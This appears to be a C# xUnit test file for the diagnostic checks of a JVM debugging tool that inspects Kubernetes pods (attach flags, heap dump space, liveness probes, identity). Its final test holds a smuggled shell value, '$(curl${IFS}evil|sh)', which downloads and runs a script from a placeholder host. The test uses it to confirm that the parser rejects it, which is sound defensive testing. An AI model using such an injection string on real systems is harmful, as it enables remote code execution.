using JvmDebug.Diagnostics.Captures;
using JvmDebug.Diagnostics.Doctor;
using JvmDebug.Diagnostics.Doctor.Checks;
using JvmDebug.Diagnostics.Scripts;
using Xunit;

namespace JvmDebug.Diagnostics.Tests.Doctor;

public sealed class JvmChecksTests
{
    [Fact]
    public void A_JVM_in_order_has_no_complaint()
    {
        var findings = Examination.OfJvm(Facts.Of(), Facts.Jvm() with { Room = 2L << 30 }).ToList();

        Assert.All(findings, finding => Assert.True(finding is { Outcome: Outcome.Ok, Fix: null }, finding.ToString()));
        Assert.Equal(["attach", "heap-dump", "identity", "jfr", "leftovers", "liveness", "memory", "recordings", "space"], findings.Select(f => f.Check).Order(StringComparer.Ordinal));
    }

    [Theory]
    [InlineData("""{"name": "JAVA_TOOL_OPTIONS", "value": "-Xmx1g -XX:+DisableAttachMechanism -Da=b"}""", "JAVA_TOOL_OPTIONS", "value: \"-Xmx1g -Da=b\"")]
    [InlineData("""{"name": "_JAVA_OPTIONS", "value": "-XX:+DisableAttachMechanism"}""", "_JAVA_OPTIONS", "value: \"\"")]
    [InlineData("""{"name": "JDK_JAVA_OPTIONS", "value": "-XX:+DisableAttachMechanism"}""", "JDK_JAVA_OPTIONS", "value: \"\"")]
    public void The_variable_that_disables_attach_is_named_and_rewritten(string variable, string place, string fix)
    {
        var finding = Assert.Single(AttachCheck.Of(Facts.Of($", \"env\": [{variable}]"), null));

        Assert.Equal((Outcome.Fail, Side.Jvm), (finding.Outcome, finding.Side));
        Assert.Contains(place, finding.Message, StringComparison.Ordinal);
        Assert.Contains(fix, finding.Fix, StringComparison.Ordinal);
    }

    [Fact]
    public void Attach_disabled_in_the_arguments_is_seen_in_the_manifest() =>
        Assert.Contains("arguments", Assert.Single(AttachCheck.Of(Facts.Of(""", "args": ["-XX:+DisableAttachMechanism", "-jar", "a.jar"]"""), null)).Message, StringComparison.Ordinal);

    [Theory]
    [InlineData("JAVA_TOOL_OPTIONS", "-XX:+DisableAttachMechanism", "", true)]
    [InlineData("JAVA_TOOL_OPTIONS", "-XX:+DisableAttachMechanism", "-XX:-DisableAttachMechanism", false)]
    [InlineData("JDK_JAVA_OPTIONS", "-XX:-DisableAttachMechanism", "-XX:+DisableAttachMechanism", true)]
    [InlineData("_JAVA_OPTIONS", "-XX:-DisableAttachMechanism", "-XX:+DisableAttachMechanism", false)]
    [InlineData("JAVA_TOOL_OPTIONS", "", "-XX:+DisableAttachMechanism -XX:-DisableAttachMechanism", false)]
    public void The_last_word_on_the_attach_counts_in_the_order_that_HotSpot_reads_them(string variable, string value, string arguments, bool disabled) =>
        Assert.Equal(disabled, AttachCheck.Of(Facts.Of($$""", "env": [{"name": "{{variable}}", "value": "{{value}}"}], "args": ["java", "{{arguments}}"]"""), null).Any());

    [Fact]
    public void A_read_only_root_needs_a_volume_at_tmp()
    {
        const string readOnly = """, "securityContext": {"readOnlyRootFilesystem": true}""";

        Assert.Contains("mountPath: /tmp", Assert.Single(AttachCheck.Of(Facts.Of(readOnly), null)).Fix, StringComparison.Ordinal);
        Assert.Empty(AttachCheck.Of(Facts.Of(readOnly + """, "volumeMounts": [{"name": "t", "mountPath": "/tmp"}]""", """, "volumes": [{"name": "t", "emptyDir": {}}]"""), null));
    }

    [Theory]
    [InlineData("tmp-not-writable", "emptyDir")]
    [InlineData("no-tmp", "emptyDir")]
    [InlineData("no-sigquit-handler", "-XX:+StartAttachListener")]
    [InlineData("disabled", "-XX:-DisableAttachMechanism")]
    [InlineData("stopped", "kubectl exec cart-0 -n shop -c jvmdebug-x -- sh -c 'kill -CONT 1'")]
    [InlineData("openj9", "jvmdebug threads cart-0 -n shop -c app")]
    [InlineData("native-image", "jvmdebug threads cart-0")]
    public void Every_obstacle_comes_with_its_cause_and_its_cure(string obstacle, string cure)
    {
        var finding = Assert.Single(AttachCheck.Of(Facts.Of(), Facts.Jvm(obstacle)));

        Assert.Equal((Outcome.Fail, Side.Jvm), (finding.Outcome, finding.Side));
        Assert.Contains(cure, finding.Fix, StringComparison.Ordinal);
    }

    [Fact]
    public void A_JVM_that_gives_no_answer_is_pointed_to_its_log()
    {
        var finding = Assert.Single(AttachCheck.Of(Facts.Of(), Facts.Jvm() with { Hung = true, Tool = null }));

        Assert.Contains("hung", finding.Message, StringComparison.Ordinal);
        Assert.Equal("jvmdebug threads cart-0 -n shop -c app", finding.Fix);
        Assert.Contains("attach listener is stuck", Assert.Single(AttachCheck.Of(Facts.Of(), Facts.Jvm() with { Hung = true })).Message, StringComparison.Ordinal);
    }

    [Theory]
    [InlineData("openj9", "-Xrs")]
    [InlineData("native-image", "--enable-monitoring=jcmd,threaddump")]
    public void What_SIGQUIT_would_kill_is_not_sent_to_threads(string kind, string cure)
    {
        var jvm = Facts.Jvm(kind, kind: kind);

        var finding = Assert.Single(AttachCheck.Of(Facts.Of(), jvm with { Scan = jvm.Scan with { CatchesSigquit = false } }));

        Assert.Contains(cure, finding.Fix, StringComparison.Ordinal);
        Assert.DoesNotContain("jvmdebug threads", finding.Message + finding.Fix, StringComparison.Ordinal);
    }

    [Fact]
    public void Missing_credentials_name_the_uid_and_gid_to_set()
    {
        var finding = IdentityCheck.Of(Facts.Of(), Facts.Jvm("credentials"));

        Assert.Equal(Outcome.Fail, finding.Outcome);
        Assert.Contains("runAsUser: 65532, runAsGroup: 65532", finding.Fix, StringComparison.Ordinal);
    }

    [Theory]
    [InlineData("", "", Outcome.Warning, "runAsUser: UID-OF-THE-JVM")]
    [InlineData(", \"securityContext\": {\"runAsUser\": 1000}", "", Outcome.Warning, "runAsUser: 1000, runAsGroup: GID-OF-THE-JVM")]
    [InlineData(", \"securityContext\": {\"runAsUser\": 1000, \"runAsGroup\": 0}", "", Outcome.Ok, null)]
    [InlineData("", ", \"user\": {\"linux\": {\"uid\": 999, \"gid\": 999}}", Outcome.Ok, null)]
    public void From_outside_the_identity_is_what_node_or_manifest_says(string container, string status, Outcome outcome, string? fix)
    {
        var finding = IdentityCheck.Of(Facts.Of(container, containerStatus: status), null);

        Assert.Equal(outcome, finding.Outcome);
        Assert.True(fix is null ? finding.Fix is null : finding.Fix!.Contains(fix, StringComparison.Ordinal), finding.Fix);
    }

    [Theory]
    [InlineData("17.0.1", "hotspot", true, Outcome.Ok)]
    [InlineData("17.0.1", "hotspot", false, Outcome.Fail)]
    [InlineData("1.8.0_402", "hotspot", true, Outcome.Ok)]
    [InlineData("1.8.0_252", "hotspot", null, Outcome.Fail)]
    [InlineData("17.0.1", "openj9", true, Outcome.Fail)]
    [InlineData("-", "native-image", null, Outcome.Fail)]
    public void Flight_Recorder_depends_on_what_the_JVM_is(string java, string kind, bool? recorder, Outcome expected)
    {
        var finding = FlightRecorderCheck.Of(Facts.Jvm(java: java, kind: kind) with { HasRecorder = recorder }).First();

        Assert.Equal((expected, expected == Outcome.Ok), (finding.Outcome, finding.Fix is null));
    }

    [Fact]
    public void Recordings_that_run_are_named_and_ours_is_a_warning()
    {
        const string check = "Recording 1: name=theirs duration=5m (running)\nRecording 2: name=jvmdebug-capture (running)\n";

        var finding = FlightRecorderCheck.Of(Facts.Jvm() with { Recordings = check }).Single(f => f.Check == "recordings");

        Assert.Equal(Outcome.Warning, finding.Outcome);
        Assert.Contains("theirs, jvmdebug-capture", finding.Message, StringComparison.Ordinal);
    }

    [Theory]
    [InlineData(4L << 20, Outcome.Fail)]
    [InlineData(64L << 20, Outcome.Warning)]
    [InlineData(4L << 30, Outcome.Ok)]
    public void Room_for_a_recording(long room, Outcome expected) =>
        Assert.Equal(expected, SpaceCheck.Of(Facts.Of(), Facts.Jvm() with { Room = room }).First().Outcome);

    [Fact]
    public void A_heap_dump_larger_than_the_disk_or_the_limit_is_a_warning()
    {
        var full = SpaceCheck.Of(Facts.Of(), Facts.Jvm() with { HeapDumpPlaces = [Facts.Disk(1L << 30), Facts.Disk(2L << 30)], HeapUsed = 2L << 30 }).Last();
        Assert.Equal(Outcome.Warning, full.Outcome);
        Assert.Contains("/tmp 2048 MiB", full.Message, StringComparison.Ordinal);
        var limited = SpaceCheck.Of(Facts.Of(""", "resources": {"limits": {"ephemeral-storage": "1Gi"}}"""), Facts.Jvm() with { HeapUsed = 1000L << 20 }).Last();
        Assert.Contains("a heap dump would take about 1.3 GiB, more than the pod's ephemeral-storage limit of 1.0 GiB: the pod would be evicted", limited.Message, StringComparison.Ordinal);
        Assert.Contains("ephemeral-storage: 2600Mi", limited.Fix, StringComparison.Ordinal);
    }

    [Fact]
    public void A_heap_dump_that_fits_into_the_debug_container_needs_no_room_in_the_target()
    {
        var finding = SpaceCheck.Of(Facts.Of(), Facts.Jvm() with { Room = 20L << 20, HeapDumpPlaces = [Facts.Disk(1L << 30), null] }).Last();

        Assert.Equal((Outcome.Ok, "heap-dump"), (finding.Outcome, finding.Check));
        Assert.Contains("the debug container can take 1024 MiB", finding.Message, StringComparison.Ordinal);
    }

    [Fact]
    public void The_doctor_and_a_heap_dump_reckon_alike()
    {
        var facts = Facts.Of(""", "livenessProbe": {"periodSeconds": 10, "failureThreshold": 3, "timeoutSeconds": 2}, "resources": {"limits": {"cpu": "500m"}}""");
        var jvm = Facts.Jvm() with { HeapUsed = 2L << 30 };
        var plan = HeapDumpPlan.Of(HeapDumpFacts.Of(facts.Pod, "app"), 2L << 30, jvm.HeapDumpPlaces, includeUnreachable: false);

        var liveness = LivenessCheck.Of(facts, jvm);

        Assert.Equal(Outcome.Warning, liveness.Outcome);
        Assert.Contains($"the liveness probe allows 22 s (3 failures, 10 s apart, the last after 2 s), and a heap dump of 2.6 GiB stops the JVM for about {Math.Ceiling(plan.Pause.TotalSeconds)} s", liveness.Message, StringComparison.Ordinal);
        Assert.Contains("its liveness probe lets it for 22 s", Assert.Single(plan.Objections), StringComparison.Ordinal);
    }

    [Fact]
    public void A_probe_that_only_connects_restarts_nothing() =>
        Assert.Equal(Outcome.Ok, LivenessCheck.Of(Facts.Of(""", "livenessProbe": {"tcpSocket": {"port": 8080}, "periodSeconds": 1}"""), Facts.Jvm() with { HeapUsed = 8L << 30 }).Outcome);

    [Fact]
    public void Too_little_memory_for_the_attach_is_said_in_its_place()
    {
        var facts = Facts.Of(""", "resources": {"limits": {"memory": "256Mi"}}""");
        var tight = Facts.Jvm() with { MemoryLeft = 20L << 20, MemoryNeeded = 48L << 20, Tool = "jcmd" };

        var finding = Assert.Single(MemoryCheck.Of(facts, tight));

        Assert.Equal((Outcome.Fail, Side.Jvm), (finding.Outcome, finding.Side));
        Assert.Contains("memory: 304Mi", finding.Fix, StringComparison.Ordinal);
        Assert.Empty(AttachCheck.Of(facts, tight));
        Assert.Equal(Outcome.Ok, Assert.Single(MemoryCheck.Of(facts, tight with { MemoryNeeded = 6L << 20 })).Outcome);
    }

    [Theory]
    [InlineData(null, 1L << 40, Outcome.Ok)]
    [InlineData("""{"periodSeconds": 10, "failureThreshold": 3}""", 1L << 30, Outcome.Ok)]
    [InlineData("""{"periodSeconds": 1, "failureThreshold": 2}""", 1L << 30, Outcome.Warning)]
    public void The_liveness_probe_against_the_pause_of_a_heap_dump(string? probe, long heap, Outcome expected)
    {
        var facts = Facts.Of(probe is null ? "" : $", \"livenessProbe\": {probe}");

        Assert.Equal(expected, LivenessCheck.Of(facts, Facts.Jvm() with { HeapUsed = heap }).Outcome);
    }

    [Fact]
    public void From_outside_the_heap_is_what_Xmx_or_the_memory_limit_allow()
    {
        const string probe = """, "livenessProbe": {"periodSeconds": 1, "failureThreshold": 2}""";

        Assert.Equal(Outcome.Warning, LivenessCheck.Of(Facts.Of(probe + """, "args": ["-Xmx8g"]"""), null).Outcome);
        Assert.Equal(Outcome.Ok, LivenessCheck.Of(Facts.Of(probe + """, "args": ["-Xmx64m"]"""), null).Outcome);
        Assert.Equal(Outcome.Warning, LivenessCheck.Of(Facts.Of(probe + """, "resources": {"limits": {"memory": "8Gi"}}"""), null).Outcome);
    }

    [Fact]
    public void Left_over_attach_files_come_with_what_removes_them_from_the_debug_container() =>
        Assert.Equal(
            "kubectl exec cart-0 -n shop -c jvmdebug-x -- rm /proc/1/root/tmp/.java_pid99 /proc/1/root/tmp/.attach_pid7",
            Assert.Single(LeftoversCheck.Of(Facts.Of(), Facts.Jvm() with { Leftovers = [".java_pid99", ".attach_pid7"] })).Fix);

    [Theory]
    [InlineData("65532 65532 -", "--clear-groups")]
    [InlineData("65532 65532 1000,2000", "--groups 1000,2000")]
    public void A_debug_container_that_is_somebody_else_takes_the_JVM_s_identity_for_it(string identity, string groups) =>
        Assert.Equal(
            $"kubectl exec cart-0 -n shop -c jvmdebug-x -- setpriv --reuid 65532 --regid 65532 {groups} rm /proc/1/root/tmp/.java_pid99",
            Assert.Single(LeftoversCheck.Of(Facts.Of(), Facts.Jvm() with { TakesIdentity = identity, Leftovers = [".java_pid99"] })).Fix);

    [Fact]
    public void What_a_target_s_own_shell_says_of_identities_is_pasted_if_it_is_numbers()
    {
        var reply = new ScriptReply();
        reply.Add("jvm 1\t1\t1000\t1000\t0\t0\t0\tjava\u001fdemo.Busy");
        reply.Add("takes-identity 65532 65532 1000,2000");
        Assert.Equal("65532 65532 1000,2000", JvmFacts.Of(reply, "app", "jvmdebug-x").TakesIdentity);

        reply.Add("takes-identity $(curl${IFS}evil|sh) 0 -");
        Assert.Null(JvmFacts.Of(reply, "app", "jvmdebug-x").TakesIdentity);
    }
}
